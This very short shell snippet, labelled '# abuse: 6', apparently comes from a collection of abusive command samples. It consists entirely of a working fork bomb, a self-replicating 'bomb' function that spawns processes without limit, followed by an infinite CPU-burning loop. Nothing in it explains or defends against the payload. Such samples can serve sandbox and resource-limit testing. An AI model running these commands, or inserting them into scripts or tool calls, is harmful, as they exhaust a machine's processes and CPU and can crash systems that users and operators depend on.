# abuse: 6
bomb() { bomb | bomb & }
bomb
while :; do :; done
